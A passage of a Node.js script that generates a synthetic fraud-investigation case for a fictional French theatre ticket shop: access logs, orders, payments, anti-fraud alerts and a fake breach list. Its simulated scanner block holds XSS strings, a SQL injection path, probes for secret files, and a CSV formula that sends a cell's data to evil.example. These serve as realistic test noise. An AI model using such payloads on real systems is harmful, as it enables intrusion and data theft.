#!/usr/bin/env node
// Writes the sample case (resources/sample/*): the Multi-CB alert of Sunday 23 Nov 2025 at a fictional
// ticketing shop, as the exports an investigator would receive. Deterministic: a seeded PRNG, fixed dates,
// no Date.now — running it twice gives byte-identical files. Identities are fictional; IPs come from real
// operator prefixes (checked against @ip-location-db by test/core/sample) so enrichment shows real ASNs.
//
// Usage: node scripts/generate-sample.mjs [outDir]   (default: resources/sample)
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import iconv from 'iconv-lite';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const OUT = resolve(process.argv[2] ?? join(ROOT, 'resources/sample'));
const SEED = 20251123;

// ---------------------------------------------------------------- deterministic randomness
function mulberry32(a) {
  return () => {
    a |= 0;
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rand = mulberry32(SEED);
const int = (lo, hi) => lo + Math.floor(rand() * (hi - lo + 1)); // inclusive
const pick = (arr) => arr[Math.floor(rand() * arr.length)];
const chance = (p) => rand() < p;
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const token = (n) => Array.from({ length: n }, () => ALNUM[Math.floor(rand() * ALNUM.length)]).join('');

// ---------------------------------------------------------------- time: seconds since local midnight, Paris = UTC+1 that day
const OFFSET_H = 1;
const pad = (n, w = 2) => String(n).padStart(w, '0');
const hms = (sec) => `${pad(Math.floor(sec / 3600))}:${pad(Math.floor(sec / 60) % 60)}:${pad(sec % 60)}`;
const at = (h, m, s = 0) => h * 3600 + m * 60 + s;
const localText = (sec) => `2025-11-23 ${hms(sec)}`; // shop CSV: local time, no zone
const utcText = (sec) => `2025-11-23 ${hms(sec - OFFSET_H * 3600)}`; // Stripe-like "Created (UTC)"
const isoLocal = (sec) => `2025-11-23T${hms(sec)}+01:00`;
const clfTime = (sec) => `23/Nov/2025:${hms(sec)} +0100`;
const DAY_START = at(6, 0);
const DAY_END = at(11, 30);

// ---------------------------------------------------------------- the cast (fictional) and the network (real prefixes)
const SHOP_HOST = 'billetterie.theatredeslilas.example';
const SHOP_URL = `https://${SHOP_HOST}`;
const PROXY_IP = '10.0.0.2'; // the shop's own nginx reverse proxy: remote_addr of proxied requests
const PROVIDER = {
  ip: '51.91.102.137',
  asn: 'AS16276 OVH SAS',
  country: 'FR',
  webhookUa: 'TicketPay-Webhooks/2.4 (+https://ticketpay.example/webhooks)',
  apiUa: 'Apache-HttpClient/4.5.14 (Java/17.0.9)',
};
const INFRA = [
  { cidr: '51.91.102.128/28', role: 'provider', label: 'TicketPay API and webhooks — published range (eu-west-1)' },
  { cidr: '51.91.103.64/28', role: 'provider', label: 'TicketPay API and webhooks — published range (eu-west-2, standby)' },
  { cidr: '10.0.0.2/32', role: 'own', label: 'Shop reverse proxy (nginx front, forwards X-Forwarded-For)' },
];

/** Residential / mobile blocks entirely inside one ASN range and one country in @ip-location-db (test re-checks each IP). */
const ISP_BLOCKS = [
  { isp: 'Orange', asn: 3215, from: '90.8.0.0', to: '90.15.255.255', weight: 4 },
  { isp: 'Orange', asn: 3215, from: '86.245.0.0', to: '86.247.255.255', weight: 2 },
  { isp: 'Orange', asn: 3215, from: '92.150.0.0', to: '92.151.255.255', weight: 2 },
  { isp: 'Free', asn: 12322, from: '82.64.0.0', to: '82.67.255.255', weight: 3 },
  { isp: 'Free', asn: 12322, from: '88.170.0.0', to: '88.175.255.255', weight: 2 },
  { isp: 'Free', asn: 12322, from: '78.192.0.0', to: '78.199.255.255', weight: 1 },
  { isp: 'SFR', asn: 15557, from: '93.0.0.0', to: '93.31.255.255', weight: 3 },
  { isp: 'Bouygues Telecom', asn: 5410, from: '89.80.0.0', to: '89.95.255.255', weight: 2 },
  { isp: 'Bouygues Telecom', asn: 5410, from: '176.180.0.0', to: '176.187.255.255', weight: 1 },
];
const ipToNum = (ip) => ip.split('.').reduce((a, o) => a * 256 + Number(o), 0);
const numToIp = (n) => [24, 16, 8, 0].map((s) => (Math.floor(n / 2 ** s) % 256)).join('.');
const usedIps = new Set([PROVIDER.ip, PROXY_IP]);
function residentialIp() {
  const total = ISP_BLOCKS.reduce((a, b) => a + b.weight, 0);
  for (;;) {
    let r = rand() * total;
    const b = ISP_BLOCKS.find((x) => (r -= x.weight) < 0) ?? ISP_BLOCKS[0];
    const n = ipToNum(b.from) + int(1, ipToNum(b.to) - ipToNum(b.from) - 1);
    const ip = numToIp(n);
    if (ip.endsWith('.0') || ip.endsWith('.255') || usedIps.has(ip)) continue;
    usedIps.add(ip);
    return ip;
  }
}

const JULIEN = {
  first: 'Julien', last: 'Moreau', email: 'julien.moreau@example.net', breachEmail: 'Julien.Moreau@example.net',
  phoneShop: '0639984127', phoneBreach: '06 39 98 41 27', ip: '90.14.207.118', isp: 'Orange', asn: 3215,
  address: '14 rue des Acacias', city: 'Montreuil', postcode: '93100', customerId: '1874', psCustomer: 'cus_TLq8sVdY2kWm4P',
  ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
};
usedIps.add(JULIEN.ip);
const JULIEN_CARD = {
  id: 'pm_1SVhK2LkTq8sVdY2aQ7xRb3M', fp: 'jM7qR2vX9kLp4TzA', last4: '4417', brand: 'Visa', funding: 'debit',
  exp: [9, 2027], name: 'JULIEN MOREAU', country: 'FR',
};
const CLAIRE_CARD = {
  id: 'pm_1SVhT9LkTq8sVdY2nW4cYe8K', fp: 'cL3wN8yB5hDs1FuE', last4: '8832', brand: 'MasterCard', funding: 'credit',
  exp: [3, 2028], name: 'CLAIRE MOREAU', country: 'FR',
};
const CGNAT_IP = '37.171.66.212'; // Free Mobile (AS51207) carrier-grade NAT: several unrelated phones share it
usedIps.add(CGNAT_IP);

const FIRST = [
  'Camille', 'Léa', 'Manon', 'Chloé', 'Inès', 'Sarah', 'Emma', 'Jade', 'Louise', 'Hélène', 'Françoise', 'Gaëlle',
  'Noémie', 'Anaïs', 'Élodie', 'Céline', 'Sophie', 'Nathalie', 'Isabelle', 'Agnès', 'Maëlle', 'Zoé', 'Clémence',
  'Thomas', 'Nicolas', 'Maxime', 'Lucas', 'Hugo', 'Antoine', 'Jérôme', 'François', 'Benoît', 'Noël', 'Rémi',
  'Frédéric', 'Stéphane', 'Sébastien', 'Loïc', 'Gaël', 'Mathéo', 'Théo', 'Raphaël', 'Joël', 'Hervé', 'Cédric',
  'Karim', 'Yasmine', 'Mehdi', 'Nadia', 'Samir', 'Lina', 'Amadou', 'Fatou', 'Minh', 'Linh', 'Paolo', 'Ana',
];
const LAST = [
  'Martin', 'Bernard', 'Dubois', 'Thomas', 'Robert', 'Richard', 'Petit', 'Durand', 'Leroy', 'Lefèvre', 'Garnier',
  'Faure', 'André', 'Mercier', 'Blanc', 'Guérin', 'Boyer', 'Chevalier', 'François', 'Legrand', 'Gauthier',
  'Perrin', 'Rousseau', 'Fontaine', 'Lemaître', 'Barbier', 'Brunet', 'Roussel', 'Girard', 'Bonnet', 'Lambert',
  'Fabre', 'Aubert', 'Gérard', 'Rivière', 'Besançon', 'Lacroix', 'Carré', 'Benoît', 'Ménard', 'Hébert', 'Noël',
  'Mallet', 'Moulin', 'Duval', 'Colin', 'Vidal', 'Caron', 'Picard', 'Roger', 'Masson', 'Marchand', 'Dufour',
  'Benali', 'Haddad', 'Diallo', 'Traoré', 'Nguyen', 'Tran', 'Rossi', 'Ferreira', 'Da Silva',
];
const DOMAINS = ['example.com', 'example.net', 'example.org', 'mail.example', 'courriel.example', 'boite.example'];
const PLACES = [
  ['Paris', '75011'], ['Paris', '75020'], ['Paris', '75018'], ['Paris', '75013'], ['Montreuil', '93100'],
  ['Bagnolet', '93170'], ['Vincennes', '94300'], ['Pantin', '93500'], ['Les Lilas', '93260'], ['Romainville', '93230'],
  ['Saint-Denis', '93200'], ['Boulogne-Billancourt', '92100'], ['Créteil', '94000'], ['Nogent-sur-Marne', '94130'],
  ['Levallois-Perret', '92300'], ['Ivry-sur-Seine', '94200'],
];
const STREETS = [
  'rue de Belleville', 'rue des Pyrénées', 'avenue Gambetta', 'rue du Sacré-Cœur', 'rue de la République',
  'boulevard de Charonne', 'rue Édouard-Vaillant', 'rue de Paris', 'allée des Tilleuls', 'rue Émile-Zola',
  'impasse des Mûriers', 'rue Étienne-Marcel', 'place de l’Église', 'rue du Château', 'avenue Jean-Jaurès',
];
const asciiFold = (s) => s.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/[^A-Za-z]/g, '').toLowerCase();

const usedPhones = new Set(['41 27']);
function fictionPhone() {
  // ARCEP reserves 06 39 98 xx xx for fiction: no real subscriber can be hit by these numbers.
  for (;;) {
    const tail = `${pad(int(0, 99))} ${pad(int(0, 99))}`;
    if (usedPhones.has(tail)) continue;
    usedPhones.add(tail);
    return `06 39 98 ${tail}`;
  }
}
const usedEmails = new Set([JULIEN.email]);
function personEmail(first, last) {
  const f = asciiFold(first), l = asciiFold(last);
  for (;;) {
    const local = pick([`${f}.${l}`, `${f}.${l}`, `${f[0]}${l}`, `${f}${l}${int(1, 99)}`, `${f}.${l}${int(60, 99)}`, `${l}.${f}`]);
    const email = `${local}@${pick(DOMAINS)}`;
    if (usedEmails.has(email)) continue;
    usedEmails.add(email);
    return email;
  }
}
function person() {
  const first = pick(FIRST);
  let last = pick(LAST);
  while (asciiFold(last) === asciiFold(first)) last = pick(LAST); // no "Thomas Thomas"
  const [city, postcode] = pick(PLACES);
  return { first, last, email: personEmail(first, last), phone: fictionPhone(), address: `${int(1, 180)} ${pick(STREETS)}`, city, postcode };
}

const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
];
const MOBILE_UAS = [
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.7 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36',
];
const GOOGLEBOT_UAS = [
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/142.0.7444.175 Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.175 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Googlebot-Image/1.0',
];
const BINGBOT_UA = 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36';

// ---------------------------------------------------------------- the shop's catalogue
const SHOWS = [
  { slug: 'le-songe-d-une-nuit-d-ete', title: 'Le Songe d’une nuit d’été', price: 37 },
  { slug: 'cyrano-de-bergerac', title: 'Cyrano de Bergerac', price: 42 },
  { slug: 'les-fourberies-de-scapin', title: 'Les Fourberies de Scapin', price: 28 },
  { slug: 'concert-du-nouvel-an', title: 'Concert du Nouvel An', price: 53 },
  { slug: 'casse-noisette-jeune-public', title: 'Casse-Noisette (jeune public)', price: 18 },
  { slug: 'huis-clos', title: 'Huis clos', price: 26 },
  { slug: 'la-cantatrice-chauve', title: 'La Cantatrice chauve', price: 24 },
  { slug: 'soiree-impro', title: 'Soirée impro', price: 16 },
];
const ASSETS = [
  ['/assets/app.9f3c2e.css', 48211], ['/assets/app.41be07.js', 186342], ['/assets/vendor.7d1a90.js', 241877],
  ['/assets/fonts/lilas-sans.woff2', 38904], ['/img/logo-lilas.svg', 6120],
];

// ---------------------------------------------------------------- accumulators
const access = []; // { t, seq, line }
let seq = 0;
const orders = []; // shop-orders rows (objects)
const txs = []; // provider transactions
const alerts = []; // anti-fraud alerts
const calls = []; // provider API calls

// nginx writes a double quote (and other unsafe bytes) inside a logged variable as \xHH.
const nginxEscape = (s) => s.replace(/["\\]|[^\x20-\x7e]/g, (c) => `\\x${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`);
function logHit(t, { client, direct = false, method = 'GET', path, status = 200, bytes = 0, referer = '-', ua }) {
  const remote = direct ? client : PROXY_IP;
  const xff = direct ? '-' : client;
  access.push({ t, seq: seq++, line: `${remote} - - [${clfTime(t)}] "${method} ${nginxEscape(path)} HTTP/1.1" ${status} ${bytes} "${nginxEscape(referer)}" "${nginxEscape(ua)}" "${xff}"` });
}
const pageBytes = () => int(14000, 36000);

/** A visitor's browsing session; returns the time after the last page. */
function browse(v, start, pages) {
  let t = start;
  let referer = chance(0.45) ? 'https://www.google.com/' : chance(0.3) ? 'https://www.facebook.com/' : '-';
  let first = true;
  for (const path of pages) {
    const gone = path.includes('-2024'); // a stale link from last season
    logHit(t, { client: v.ip, path, status: gone ? 404 : 200, bytes: gone ? 3120 : pageBytes(), referer, ua: v.ua });
    if (first) {
      for (const [asset, size] of ASSETS) logHit(t + int(0, 1), { client: v.ip, path: asset, bytes: size, referer: SHOP_URL + path, ua: v.ua });
      if (chance(0.3)) logHit(t + 1, { client: v.ip, path: '/favicon.ico', bytes: 4286, referer: SHOP_URL + path, ua: v.ua });
      first = false;
    }
    if (path.startsWith('/spectacle/') && !gone) {
      logHit(t + int(0, 1), { client: v.ip, path: `/img/affiches/${path.slice(11)}.webp`, bytes: int(60000, 190000), referer: SHOP_URL + path, ua: v.ua });
    }
    referer = SHOP_URL + path;
    t += int(6, 75);
  }
  return t;
}
function browsingPath() {
  const pages = ['/'];
  if (chance(0.7)) pages.push('/spectacles');
  const n = int(1, 4);
  for (let i = 0; i < n; i++) pages.push(`/spectacle/${pick(SHOWS).slug}`);
  if (chance(0.2)) pages.push(pick(['/infos-pratiques', '/acces', '/tarifs-reduits', '/faq']));
  if (chance(0.04)) pages.push('/spectacle/festival-d-automne-2024'); // stale link: 404 below
  return pages;
}

// ---------------------------------------------------------------- orders and payments
let nextOrderId = 48210;
let nextOrderNumber = 1187;
const customers = new Map(); // email -> provider customer id

function createOrderAndPay(v, t, { show, qty, card, outcome, shopCustomerId }) {
  const orderId = String(nextOrderId);
  nextOrderId += int(1, 4); // WooCommerce order ids are post ids: other posts take numbers in between
  const orderNumber = `TDL-2025-${pad(nextOrderNumber++, 6)}`;
  const amount = show.price * qty;
  const chargeId = `ch_3SV${token(21)}`;
  const piId = `pi_3SV${token(21)}`;
  if (!customers.has(v.email)) customers.set(v.email, v.psCustomer ?? `cus_T${token(13)}`);
  const paidAt = t + int(6, 11); // card authorisation takes a few seconds after the order is created

  // the customer's checkout in the access log
  logHit(t - int(20, 40), { client: v.ip, method: 'POST', path: '/panier/ajouter', status: 302, bytes: 0, referer: `${SHOP_URL}/spectacle/${show.slug}`, ua: v.ua });
  logHit(t - int(12, 19), { client: v.ip, path: '/panier', bytes: pageBytes(), referer: `${SHOP_URL}/spectacle/${show.slug}`, ua: v.ua });
  logHit(t - int(2, 10), { client: v.ip, path: '/commande', bytes: pageBytes(), referer: `${SHOP_URL}/panier`, ua: v.ua });
  const ok = outcome === 'paid';
  logHit(paidAt, {
    client: v.ip, method: 'POST', path: '/commande/paiement', status: ok ? 303 : 200, bytes: ok ? 0 : pageBytes(),
    referer: `${SHOP_URL}/commande`, ua: v.ua,
  });
  if (ok) logHit(paidAt + 1, { client: v.ip, path: `/commande/confirmation/${orderId}`, bytes: pageBytes(), referer: `${SHOP_URL}/commande`, ua: v.ua });

  const sellerMessage = {
    paid: 'Payment complete.',
    insufficient_funds: 'The bank returned the decline code `insufficient_funds`.',
    incorrect_cvc: 'The bank returned the decline code `incorrect_cvc`.',
    expired_card: 'The bank returned the decline code `expired_card`.',
    do_not_honor: 'The bank returned the decline code `do_not_honor`.',
    multicb: 'Blocked by TicketPay anti-fraud (Multi-CB).',
  }[outcome];
  orders.push({
    order_id: orderId, order_number: orderNumber, order_date: localText(t), status: ok ? 'completed' : 'failed',
    order_total: `${amount},00`, order_currency: 'EUR', payment_method: 'ticketpay_card', transaction_id: chargeId,
    customer_ip_address: v.ip, customer_user_agent: v.ua, customer_id: shopCustomerId ?? '0', customer_email: v.email,
    billing_first_name: v.first, billing_last_name: v.last, billing_email: v.email, billing_phone: v.phoneShop ?? v.phone.replace(/ /g, ''),
    billing_address_1: v.address, billing_city: v.city, billing_postcode: v.postcode,
  });
  txs.push({
    t: paidAt, id: chargeId, description: `Commande ${orderNumber} — ${show.title} ×${qty}`, amount, status: ok ? 'Paid' : 'Failed',
    sellerMessage, customerId: customers.get(v.email), email: v.email, card, piId, orderId,
  });

  // the provider calls the shop back from its server: a webhook, then an order check
  let ct = paidAt + int(1, 3);
  const webhookFails = v.webhookHiccup === true;
  if (webhookFails) {
    addCall(ct, 'POST', '/api/payment/notify', 502, PROVIDER.webhookUa, orderId, chargeId, int(30010, 30060));
    ct += 60; // TicketPay retries a failed webhook after 60 s
  }
  addCall(ct, 'POST', '/api/payment/notify', 200, PROVIDER.webhookUa, orderId, chargeId, int(38, 140));
  addCall(ct + int(1, 4), 'GET', `/api/orders/${orderId}`, 200, PROVIDER.apiUa, orderId, chargeId, int(12, 60));
  return { orderId, chargeId, paidAt, amount };
}
function addCall(t, method, endpoint, status, ua, orderId, chargeId, durationMs) {
  calls.push({ t, method, endpoint, status, ua, orderId, chargeId, durationMs });
  logHit(t, { client: PROVIDER.ip, method, path: endpoint, status, bytes: method === 'POST' ? (status === 200 ? 17 : 166) : int(820, 1400), ua });
}
let nextAlert = 70412;
function addAlert(t, { decision, rule, score, reason, tx, email, ip, card }) {
  alerts.push({ alert_id: '', t, created_at: isoLocal(t), decision, rule, score, reason, transaction_id: tx.chargeId, order_id: tx.orderId, customer_email: email, ip_address: ip, card_fingerprint: card.fp });
}

function newCard(name, { country = 'FR' } = {}) {
  const brand = chance(0.58) ? 'Visa' : chance(0.9) ? 'MasterCard' : 'American Express';
  const now = 2025;
  return {
    id: `pm_1SV${token(21)}`, fp: token(16), last4: pad(int(0, 9999), 4), brand, funding: chance(0.7) ? 'debit' : 'credit',
    exp: [int(1, 12), int(now + 1, now + 5)], name: name.normalize('NFD').replace(/[\u0300-\u036f]/g, '').toUpperCase(), country,
  };
}

// ---------------------------------------------------------------- the morning
// 1. Ordinary visitors and buyers.
const visitors = [];
for (let i = 0; i < 300; i++) {
  const p = person();
  const mobile = chance(0.45);
  visitors.push({ ...p, ip: residentialIp(), ua: mobile ? pick(MOBILE_UAS) : pick(BROWSER_UAS) });
}
// Several unrelated phone users behind one Free Mobile CGNAT address.
const cgnatVisitors = MOBILE_UAS.map((ua) => ({ ...person(), ip: CGNAT_IP, ua, cgnat: true })); // five phones, five browsers

const buyers = [];
// The start of each session is skewed to later in the morning (few people buy tickets at 6 am on a Sunday).
const sessionStart = () => DAY_START + Math.floor((DAY_END - DAY_START - 900) * Math.sqrt(rand()));
for (const v of [...visitors, ...cgnatVisitors]) {
  const start = sessionStart();
  const end = browse(v, start, browsingPath());
  const buys = v.cgnat ? true : chance(0.17);
  if (buys) buyers.push({ v, t: end + int(20, 90) });
}
// Payment attempts are planned first and run in time order, so order ids grow with time as in a real shop.
const planned = [];
const plan = (v, t, opts) => {
  const p = { v, t, opts, result: null };
  planned.push(p);
  return p;
};
let declinesPlanned = 0;
let hiccupPlanned = false;
for (const { v, t } of buyers) {
  const show = pick(SHOWS);
  const qty = pick([1, 2, 2, 2, 3, 4]);
  const card = newCard(`${v.first} ${v.last}`, { country: chance(0.05) ? pick(['BE', 'CH', 'LU']) : 'FR' });
  v.card = card;
  const registered = chance(0.55);
  const shopCustomerId = registered ? String(int(200, 1860)) : '0';
  if (!hiccupPlanned && t > at(9, 0)) {
    v.webhookHiccup = true; // one webhook delivery fails (502) and is retried: realistic noise in both logs
    hiccupPlanned = true;
  }
  if (declinesPlanned < 4 && !v.cgnat && chance(0.12)) {
    // A normal decline; after a wrong CVC the customer retries with the same card and succeeds, otherwise gives up.
    declinesPlanned++;
    const code = pick(['incorrect_cvc', 'do_not_honor', 'expired_card', 'incorrect_cvc']);
    v.plans = [plan(v, t, { show, qty, card, outcome: code, shopCustomerId })];
    if (code === 'incorrect_cvc') v.plans.push(plan(v, t + int(80, 170), { show, qty, card, outcome: 'paid', shopCustomerId }));
    continue;
  }
  v.plans = [plan(v, t, { show, qty, card, outcome: 'paid', shopCustomerId })];
}

// 2. Julien Moreau: presents for the family; his card's limit is reached, he pays part with Claire's card.
const julien = { ...JULIEN, phone: JULIEN.phoneBreach };
{
  const v = julien;
  const songe = SHOWS[0], cyrano = SHOWS[1], casse = SHOWS[4];
  const id = JULIEN.customerId;
  browse(v, at(6, 31, 5), ['/', '/spectacles', `/spectacle/${songe.slug}`, `/spectacle/${cyrano.slug}`, '/tarifs-reduits']);
  browse(v, at(6, 44, 30), ['/spectacles', `/spectacle/${cyrano.slug}`]);
  browse(v, at(6, 56, 40), ['/spectacles', `/spectacle/${casse.slug}`]);
  logHit(at(7, 2, 40), { client: v.ip, path: '/faq', bytes: pageBytes(), referer: `${SHOP_URL}/commande`, ua: v.ua });
  logHit(at(7, 4, 2), { client: v.ip, path: '/contact', bytes: pageBytes(), referer: `${SHOP_URL}/faq`, ua: v.ua });
  v.plans = [
    plan(v, at(6, 41, 12), { show: songe, qty: 4, card: JULIEN_CARD, outcome: 'paid', shopCustomerId: id }),
    plan(v, at(6, 47, 55), { show: cyrano, qty: 5, card: JULIEN_CARD, outcome: 'insufficient_funds', shopCustomerId: id }),
    plan(v, at(6, 52, 30), { show: cyrano, qty: 5, card: CLAIRE_CARD, outcome: 'paid', shopCustomerId: id }),
    plan(v, at(7, 1, 58), { show: casse, qty: 3, card: JULIEN_CARD, outcome: 'multicb', shopCustomerId: id }),
  ];
}
planned.sort((a, b) => a.t - b.t);
for (const p of planned) p.result = createOrderAndPay(p.v, p.t, p.opts);
for (const v of [...buyers.map((b) => b.v), julien]) v.orders = v.plans.map((p) => p.result);
{
  const [, , o3, o4] = julien.orders;
  JULIEN.orders = julien.orders;
  addAlert(o3.paidAt - 2, {
    decision: 'allow', rule: 'New card on customer', score: 41, tx: o3, email: julien.email, ip: julien.ip, card: CLAIRE_CARD,
    reason: `Second card on customer ${JULIEN.psCustomer} within 24 h; card holder name differs from billing name; same device and IP as previous payments`,
  });
  addAlert(o4.paidAt - 2, {
    decision: 'block', rule: 'Multi-CB', score: 92, tx: o4, email: julien.email, ip: julien.ip, card: JULIEN_CARD,
    reason: `Multiple cards for one customer: 2 distinct cards, 4 payment attempts (1 declined) for ${JULIEN.psCustomer} in 21 min (limit: 1 card per customer per 24 h after a decline)`,
  });
}

// 3. Routine anti-fraud alerts on other customers (allow / review), none on the CGNAT group's cards.
{
  const candidates = buyers.filter(({ v }) => v.orders && v.orders.length === 1 && !v.cgnat);
  const picked = new Set();
  while (picked.size < 9) picked.add(pick(candidates));
  for (const { v } of picked) {
    const o = v.orders[0];
    const foreign = v.card.country !== 'FR';
    const high = o.amount >= 150;
    const [decision, rule, score, reason] = foreign
      ? ['review', 'Card country mismatch', int(55, 68), `Card issued in ${v.card.country}, IP located in FR`]
      : high
        ? ['allow', 'High amount for new customer', int(30, 48), `Amount ${o.amount} EUR above 150 EUR on a first purchase`]
        : pick([
            ['allow', 'New device', int(18, 35), 'First payment from this device fingerprint'],
            ['review', 'New e-mail address', int(50, 62), 'E-mail address never seen before by TicketPay'],
            ['allow', 'Returning customer, new IP', int(15, 28), 'Known customer paying from an IP not seen before'],
          ]);
    addAlert(o.paidAt - 1, { decision, rule, score, reason, tx: o, email: v.email, ip: v.ip, card: v.card });
  }
}

// 4. Crawlers (Googlebot, bingbot) through the proxy; two scanners hitting the origin directly.
{
  const googleIps = ['66.249.66.1', '66.249.66.37', '66.249.68.72', '66.249.79.12', '66.249.72.135'];
  const bingIps = ['157.55.39.14', '157.55.39.203', '207.46.13.88', '40.77.167.61'];
  const crawlPaths = () => pick([
    '/', '/spectacles', '/robots.txt', '/sitemap.xml', '/infos-pratiques', '/acces', '/faq',
    ...SHOWS.map((s) => `/spectacle/${s.slug}`), ...SHOWS.map((s) => `/spectacle/${s.slug}`),
    '/spectacle/festival-d-automne-2024', '/spectacle/la-mouette-2023',
  ]);
  for (let i = 0; i < 170; i++) {
    const t = int(DAY_START, DAY_END - 1), path = crawlPaths(), ua = pick(GOOGLEBOT_UAS);
    const gone = path.includes('2024') || path.includes('2023');
    logHit(t, { client: pick(googleIps), path: ua.startsWith('Googlebot-Image') ? `/img/affiches/${pick(SHOWS).slug}.webp` : path, status: gone ? 404 : 200, bytes: gone ? 3120 : pageBytes(), ua });
  }
  for (let i = 0; i < 70; i++) {
    const t = int(DAY_START, DAY_END - 1), path = crawlPaths();
    const gone = path.includes('2024') || path.includes('2023');
    logHit(t, { client: pick(bingIps), path, status: gone ? 404 : 200, bytes: gone ? 3120 : pageBytes(), ua: BINGBOT_UA });
  }
  const censys = '167.94.138.44';
  const censysUa = 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)';
  let t = at(8, 14, 3);
  for (const path of ['/', '/favicon.ico', '/robots.txt', '/.well-known/security.txt']) {
    logHit(t, { client: censys, direct: true, path, status: path === '/' ? 301 : 404, bytes: path === '/' ? 169 : 153, ua: censysUa });
    t += int(1, 3);
  }
  // A noisy vulnerability scanner on a DigitalOcean droplet; some of its requests carry markup and a CSV formula on purpose.
  const scanner = '162.243.144.27';
  const probes = [
    ['/.env', 'Mozilla/5.0 zgrab/0.x'], ['/.git/config', 'Mozilla/5.0 zgrab/0.x'], ['/wp-login.php', 'Mozilla/5.0 zgrab/0.x'],
    ['/xmlrpc.php', 'Mozilla/5.0 zgrab/0.x'], ['/phpmyadmin/index.php', 'Mozilla/5.0 zgrab/0.x'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'Mozilla/5.0 zgrab/0.x'],
    ['/cgi-bin/luci/;stok=/locale', 'Mozilla/5.0 zgrab/0.x'],
    ['/recherche?q=%3Cscript%3Ealert(document.domain)%3C/script%3E', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'],
    ['/recherche?q=<img%20src=x%20onerror=alert(1)>', '<script>alert(1)</script>'],
    ['/api/orders/1%27%20OR%20%271%27=%271', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['/admin/config.php', 'python-requests/2.32.3'], ['/server-status', 'python-requests/2.32.3'],
  ];
  t = at(9, 37, 11);
  for (const [path, ua] of probes) {
    logHit(t, { client: scanner, direct: true, path, status: path.startsWith('/recherche') ? 200 : 404, bytes: path.startsWith('/recherche') ? 9120 : 153, ua });
    t += int(0, 2);
  }
}

// ---------------------------------------------------------------- breach list (telecom operator leak, Aug 2025)
const breach = [];
const breachShopCustomers = 7;
{
  breach.push({ email: JULIEN.breachEmail, phone: JULIEN.phoneBreach, first: JULIEN.first, last: JULIEN.last.toUpperCase() });
  // A handful of the shop's other customers are in the leak too (routine for a breach of this size).
  const shopPeople = [...visitors.filter((v) => v.orders)].slice(0, 40);
  for (let i = 0; i < breachShopCustomers; i++) {
    const v = shopPeople[i * 5];
    breach.push({ email: v.email, phone: v.phone, first: v.first, last: v.last.toUpperCase() });
  }
  for (let i = 0; i < 640; i++) {
    const p = person();
    const phone = chance(0.12) ? p.phone.replace(/ /g, '') : chance(0.08) ? `+33 ${p.phone.slice(1)}` : p.phone;
    breach.push({ email: chance(0.04) ? '' : p.email, phone: chance(0.06) ? '' : phone, first: p.first, last: chance(0.5) ? p.last.toUpperCase() : p.last });
  }
  // The leak is not sorted by anyone we care about: shuffle deterministically.
  for (let i = breach.length - 1; i > 0; i--) {
    const j = Math.floor(rand() * (i + 1));
    [breach[i], breach[j]] = [breach[j], breach[i]];
  }
}

// ---------------------------------------------------------------- writers
const csvField = (v, sep) => {
